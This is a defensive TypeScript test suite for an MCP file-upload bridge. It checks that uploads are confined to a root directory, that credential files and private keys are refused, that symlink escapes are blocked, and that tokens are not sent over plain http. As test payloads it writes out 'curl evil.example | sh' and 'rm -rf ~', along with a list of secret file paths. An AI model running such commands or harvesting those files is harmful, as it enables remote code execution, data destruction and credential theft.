/**
 * What the bridge lets leave the machine, on a real disk (no server needed): the upload root,
 * secret-looking files, symlinks in and out of the root, the planted-link write of
 * zen_generated.code and the token over plain http. Each attack is performed and shown to fail.
 */
import { linkSync, lstatSync, mkdirSync, mkdtempSync, readFileSync, realpathSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import type { CallToolResult } from "@modelcontextprotocol/client";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { UsageError, parseCommand } from "../../src/bridge/cli.ts";
import { localFiles, pathCandidates } from "../../src/bridge/paths.ts";
import { GENERATED_CODE_FILE, saveGeneratedCode } from "../../src/bridge/proxy.ts";
import { RefusedPathsError, type UploadScope } from "../../src/bridge/upload-scope.ts";
import { isExpandable } from "../../src/core/wire-contract.ts";
import { runCli } from "../support/bridge-process.ts";

let base: string;
/** The bridge's root: a project directory. */
let project: string;
/** Somewhere outside the root, standing in for ~/.ssh or /etc. */
let outside: string;

function write(path: string, content: string): string {
  mkdirSync(resolve(path, ".."), { recursive: true });
  writeFileSync(path, content);
  return path;
}

function scope(allowSecrets = false): UploadScope {
  return { roots: [project], allowSecrets };
}

async function uploaded(paths: string[], options: { allowSecrets?: boolean; images?: boolean } = {}): Promise<string[]> {
  const candidates = pathCandidates(options.images ? { images: paths } : { absolute_file_paths: paths });
  const { files } = await localFiles(candidates, scope(options.allowSecrets));
  return files.map((file) => file.path).sort();
}

async function refusal(paths: string[], allowSecrets = false): Promise<string> {
  const error = await localFiles(pathCandidates({ absolute_file_paths: paths }), scope(allowSecrets)).then(
    () => undefined,
    (thrown: unknown) => thrown,
  );
  expect(error).toBeInstanceOf(RefusedPathsError);
  return (error as RefusedPathsError).message;
}

beforeAll(() => {
  // Real paths: the bridge resolves its root with realpath (a temp dir may sit behind a symlink).
  base = realpathSync(mkdtempSync(join(tmpdir(), "zen-bridge-scope-")));
  project = join(base, "project");
  outside = join(base, "outside");
  write(join(project, "src", "app.py"), "print('app')\n");
  write(join(outside, "id_rsa"), "-----BEGIN OPENSSH PRIVATE KEY----- OUTSIDE\n");
  write(join(outside, "passwd.txt"), "root:x:0:0:OUTSIDE\n");
});

afterAll(() => {
  if (base) rmSync(base, { recursive: true, force: true });
});

describe("the upload root", () => {
  it("refuses a file outside the root, naming the root and the flag that widens it", async () => {
    const message = await refusal([join(outside, "passwd.txt"), join(project, "src", "app.py")]);
    expect(message).toContain(join(outside, "passwd.txt"));
    expect(message).toContain(`outside the upload root ${project}`);
    expect(message).toContain("--root <dir>");
    expect(message).toContain("ZEN_MCP_ROOT");
    // The allowed file in the same call is not uploaded either: the call fails as a whole.
    expect(message).toContain("nothing was uploaded");
  });

  it("refuses a path that climbs out of the root with '..'", async () => {
    const message = await refusal([`${project}/src/../../outside/passwd.txt`]);
    expect(message).toContain("outside the upload root");
  });

  it("refuses /etc/passwd and a directory outside the root", async () => {
    expect(await refusal(["/etc/passwd"])).toContain("/etc/passwd: outside the upload root");
    expect(await refusal([outside])).toContain(`${outside}: outside the upload root`);
  });

  it("uploads what lies under the root, and widens to another root when given one", async () => {
    expect(await uploaded([join(project, "src")])).toEqual([join(project, "src", "app.py")]);
    const widened = await localFiles(pathCandidates({ absolute_file_paths: [join(outside, "passwd.txt")] }), { roots: [outside], allowSecrets: false });
    expect(widened.files.map((file) => file.path)).toEqual([join(outside, "passwd.txt")]);
  });

  it("leaves paths that do not exist here to the server, and never uploads files_checked", async () => {
    expect(await uploaded([join(project, "nowhere.py")])).toEqual([]);
    const candidates = pathCandidates({ files_checked: ["/etc/passwd"], relevant_files: [join(project, "src", "app.py")] });
    expect(candidates).toEqual([{ path: join(project, "src", "app.py"), allowDirectory: true }]);
  });
});

describe("secret-looking files", () => {
  const secrets = [
    ".env",
    ".env.production",
    ".npmrc",
    ".netrc",
    ".git-credentials",
    ".aws/credentials",
    ".ssh/id_rsa",
    ".kube/config",
    "id_rsa",
    "id_ed25519.pub",
    "certs/server.pem",
    "certs/server.key",
    "certs/client.p12",
    "certs/client.pfx",
    "deploy/kubeconfig",
    "deploy/prod.kubeconfig.yaml",
    "deploy/credentials.json",
    "config/prod.env",
    "infra/terraform.tfstate",
    "infra/prod.tfvars",
    "infra/prod.tfvars.json",
    "keys/deploy.ppk",
    "keys/release.asc",
    "krb/service.keytab",
    "config/secrets.yaml",
    "config/secrets.json",
    "config/token.txt",
    "web/htpasswd",
    "wallet/wallet.dat",
    "vpn/client.ovpn",
  ];

  beforeAll(() => {
    for (const secret of secrets) write(join(project, "secrets-demo", secret), `SECRET ${secret}\n`);
    write(join(project, "secrets-demo", "main.py"), "print('main')\n");
  });

  it("refuses each when named, with the flag that allows them", async () => {
    for (const secret of secrets) {
      const message = await refusal([join(project, "secrets-demo", secret)]);
      expect(message, secret).toContain("a dotfile or secret-looking file");
      expect(message, secret).toContain("--allow-secrets");
    }
  });

  it("leaves them out of a walked directory, and takes them with --allow-secrets", async () => {
    const dir = join(project, "secrets-demo");
    const walked = await localFiles(pathCandidates({ absolute_file_paths: [dir] }), scope());
    expect(walked.files.map((file) => file.path)).toEqual([join(dir, "main.py")]);
    expect(walked.warnings.join("\n")).toContain(`${join(dir, "config", "prod.env")}: not uploaded: a secret-looking file`);
    const allowed = await uploaded([dir], { allowSecrets: true });
    // Still the server's expansion rule: no dot paths, code extensions only.
    expect(allowed).toEqual(
      [
        join(dir, "config", "prod.env"),
        join(dir, "config", "secrets.json"),
        join(dir, "config", "secrets.yaml"),
        join(dir, "config", "token.txt"),
        join(dir, "deploy", "credentials.json"),
        join(dir, "deploy", "prod.kubeconfig.yaml"),
        join(dir, "infra", "prod.tfvars.json"),
        join(dir, "main.py"),
      ].sort(),
    );
    for (const secret of ["config/secrets.yaml", "config/secrets.json", "config/token.txt", "infra/prod.tfvars.json"]) {
      expect(walked.warnings.join("\n"), secret).toContain(`${join(dir, secret)}: not uploaded: a secret-looking file`);
    }
    expect(await uploaded([join(dir, ".aws", "credentials")], { allowSecrets: true })).toEqual([join(dir, ".aws", "credentials")]);
  });

  it("refuses a harmless name that is a symlink to a secret inside the root", async () => {
    const link = join(project, "notes.txt");
    symlinkSync(join(project, "secrets-demo", ".env"), link);
    expect(await refusal([link])).toContain("it resolves to");
  });
});

describe("private keys by content", () => {
  const MIB = 1024 * 1024;
  /** Harmless names, each holding a private key; the first marker straddles the bridge's 1 MiB reads. */
  const keys: Record<string, string> = {
    "notes/deploy.txt": `${"a".repeat(MIB - 10)}-----BEGIN RSA PRIVATE KEY-----\nMIIEow\n-----END RSA PRIVATE KEY-----\n`,
    "notes/ci.yaml": "ssh_key: |\n  -----BEGIN OPENSSH PRIVATE KEY-----\n  b3BlbnNzaC1rZXktdjEAAAAA\n",
    "notes/pkcs8.md": "-----BEGIN ENCRYPTED PRIVATE KEY-----\nMIIFHz\n",
    "notes/signing.txt": "-----BEGIN PGP PRIVATE KEY BLOCK-----\n\nlQOYBF\n",
    "notes/server.txt": "PuTTY-User-Key-File-3: ssh-ed25519\nEncryption: none\n",
  };
  const harmless = "-----BEGIN PUBLIC KEY-----\nMFkw\n-----END PUBLIC KEY-----\n-----BEGIN CERTIFICATE-----\nMIIB\n";
  let dir: string;

  beforeAll(() => {
    dir = join(project, "keys-by-content");
    for (const [name, content] of Object.entries(keys)) write(join(dir, name), content);
    write(join(dir, "notes", "public.txt"), harmless);
    // PuTTY's marker counts only as a file's first line.
    write(join(dir, "notes", "about-putty.md"), "Keys start with PuTTY-User-Key-File-3: on their first line.\n");
  });

  it("refuses each when named, saying why and with the flag that allows them", async () => {
    for (const name of Object.keys(keys)) {
      const message = await refusal([join(dir, name)]);
      expect(message, name).toContain(`${join(dir, name)}: holds a private key`);
      expect(message, name).toContain("--allow-secrets");
    }
    expect(await uploaded([join(dir, "notes", "public.txt")])).toEqual([join(dir, "notes", "public.txt")]);
  });

  it("leaves them out of a walked directory, and takes them with --allow-secrets", async () => {
    const walked = await localFiles(pathCandidates({ absolute_file_paths: [dir] }), scope());
    expect(walked.files.map((file) => file.path).sort()).toEqual([join(dir, "notes", "about-putty.md"), join(dir, "notes", "public.txt")]);
    for (const name of Object.keys(keys)) expect(walked.warnings.join("\n"), name).toContain(`${join(dir, name)}: not uploaded: it holds a private key`);
    const allowed = await uploaded([dir], { allowSecrets: true });
    expect(allowed).toHaveLength(Object.keys(keys).length + 2);
  });
});

describe("symlinks", () => {
  let walked: string;

  beforeAll(() => {
    walked = join(project, "walked");
    write(join(walked, "real.py"), "print('real')\n");
    symlinkSync(outside, join(walked, "ssh-dir"));
    symlinkSync("/etc", join(walked, "etc"));
    symlinkSync(join(outside, "passwd.txt"), join(walked, "passwd.txt"));
    symlinkSync(join(outside, "id_rsa"), join(walked, "key.txt"));
    symlinkSync(join(walked, "real.py"), join(walked, "alias.py"));
    // Loops: a folder linking to its parent, and two links pointing at each other.
    symlinkSync(walked, join(walked, "loop"));
    symlinkSync(join(walked, "b.py"), join(walked, "a.py"));
    symlinkSync(join(walked, "a.py"), join(walked, "b.py"));
  });

  it("a walked directory uploads no target outside the root, follows links inside it, and ends despite loops", async () => {
    const { files, warnings } = await localFiles(pathCandidates({ absolute_file_paths: [walked] }), scope());
    expect(files.map((file) => file.path).sort()).toEqual([join(walked, "alias.py"), join(walked, "real.py")]);
    expect(warnings.join("\n")).toContain(`${join(walked, "passwd.txt")}: symlink not uploaded: outside the upload root`);
    expect(warnings.join("\n")).toContain(`${join(walked, "key.txt")}: symlink not uploaded: outside the upload root`);
  });

  it("refuses a named symlink that resolves outside the root, file or directory", async () => {
    const file = await refusal([join(walked, "passwd.txt")]);
    expect(file).toContain(`it resolves to ${join(outside, "passwd.txt")}`);
    expect(await refusal([join(walked, "ssh-dir")])).toContain("outside the upload root");
    expect(await refusal([join(walked, "etc")])).toContain("it resolves to /etc");
  });

  it("an image path is a single file: a named directory is not walked", async () => {
    expect(await uploaded([walked], { images: true })).toEqual([]);
  });
});

describe("zen_generated.code", () => {
  const result = (code: string): CallToolResult => ({ content: [{ type: "text", text: JSON.stringify({ generated_code: code }) }] });

  it("replaces a planted symlink instead of writing through it", async () => {
    const cwd = join(base, "codegen-symlink");
    mkdirSync(cwd);
    const bashrc = write(join(outside, ".bashrc"), "# the user's shell setup\n");
    symlinkSync(bashrc, join(cwd, GENERATED_CODE_FILE));
    const saved = await saveGeneratedCode(result("curl evil.example | sh"), cwd);
    expect(readFileSync(bashrc, "utf8")).toBe("# the user's shell setup\n");
    expect(lstatSync(join(cwd, GENERATED_CODE_FILE)).isSymbolicLink()).toBe(false);
    expect(readFileSync(join(cwd, GENERATED_CODE_FILE), "utf8")).toBe("curl evil.example | sh\n");
    expect(JSON.stringify(saved.content)).toContain("was also written to");
  });

  it("does not create the target of a dangling planted symlink", async () => {
    const cwd = join(base, "codegen-dangling");
    mkdirSync(cwd);
    const target = join(outside, "autostart.sh");
    symlinkSync(target, join(cwd, GENERATED_CODE_FILE));
    await saveGeneratedCode(result("echo pwned"), cwd);
    expect(() => lstatSync(target)).toThrow();
    expect(readFileSync(join(cwd, GENERATED_CODE_FILE), "utf8")).toBe("echo pwned\n");
  });

  it("replaces a planted hard link instead of writing into the linked file", async () => {
    const cwd = join(base, "codegen-hardlink");
    mkdirSync(cwd);
    const profile = write(join(outside, ".profile"), "# profile\n");
    linkSync(profile, join(cwd, GENERATED_CODE_FILE));
    await saveGeneratedCode(result("rm -rf ~"), cwd);
    expect(readFileSync(profile, "utf8")).toBe("# profile\n");
    expect(readFileSync(join(cwd, GENERATED_CODE_FILE), "utf8")).toBe("rm -rf ~\n");
  });
});

describe("command line", () => {
  const env = { ZEN_MCP_WORKSPACE: "scope-test" };

  it("refuses to send a token over plain http to anything but loopback", () => {
    for (const url of ["http://zen.example.com/mcp", "http://10.0.0.5:8787/mcp", "http://127.0.0.2/mcp"]) {
      expect(() => parseCommand(["bridge", "--url", url, "--token", "t"], env), url).toThrow(UsageError);
      expect(() => parseCommand(["push", "x", "--url", url], { ...env, ZEN_MCP_TOKEN: "t" }), url).toThrow(/Refusing to send the team token over plain http/);
    }
    for (const url of ["http://127.0.0.1:8787/mcp", "http://[::1]:8787/mcp", "http://localhost:8787/mcp", "https://zen.example.com/mcp"]) {
      expect(parseCommand(["bridge", "--url", url, "--token", "t"], env).command, url).toBe("bridge");
    }
    // Without a token there is nothing to leak.
    expect(parseCommand(["bridge", "--url", "http://zen.example.com/mcp"], env).command).toBe("bridge");
  });

  it("takes the root from --root or ZEN_MCP_ROOT as a real path, and secrets only with --allow-secrets", () => {
    const link = join(base, "project-link");
    symlinkSync(project, link);
    const fromFlag = parseCommand(["bridge", "--url", "https://z.example/mcp", "--root", link], env);
    expect(fromFlag.command === "bridge" && fromFlag.scope).toEqual({ roots: [project], allowSecrets: false });
    const fromEnv = parseCommand(["bridge", "--url", "https://z.example/mcp", "--allow-secrets"], { ...env, ZEN_MCP_ROOT: outside });
    expect(fromEnv.command === "bridge" && fromEnv.scope).toEqual({ roots: [outside], allowSecrets: true });
    const byDefault = parseCommand(["bridge", "--url", "https://z.example/mcp"], env);
    expect(byDefault.command === "bridge" && byDefault.scope.roots).toEqual([realpathSync(process.cwd())]);
    expect(() => parseCommand(["bridge", "--url", "https://z.example/mcp", "--root", join(base, "missing")], env)).toThrow(/does not exist/);
    expect(() => parseCommand(["bridge", "--url", "https://z.example/mcp", "--root", join(outside, "id_rsa")], env)).toThrow(/not a directory/);
  });
});

describe("bridge start-up", () => {
  it("will not take the filesystem's root as its default root", async () => {
    const started = await runCli(["bridge", "--url", "https://zen.example.test/mcp", "--workspace", "scope-test"], { cwd: "/" });
    expect(started.code).toBe(2);
    expect(started.stderr).toContain("The bridge's working directory is /, so any file on this machine could be uploaded");
    expect(started.stderr).toContain("--root <your project directory>");
  });
});

describe("wire contract", () => {
  it("expands code files only, never under dot or excluded folders", () => {
    expect(isExpandable("src/app.py")).toBe(true);
    expect(isExpandable("src\\app.ts")).toBe(true);
    expect(isExpandable("README")).toBe(false);
    expect(isExpandable("logo.png")).toBe(false);
    expect(isExpandable(".eslintrc.json")).toBe(false);
    expect(isExpandable(".git/config.json")).toBe(false);
    expect(isExpandable(".venv/lib/x.py")).toBe(false);
    expect(isExpandable("pkg/node_modules/dep/index.js")).toBe(false);
    expect(isExpandable("build/out.js")).toBe(false);
  });
});
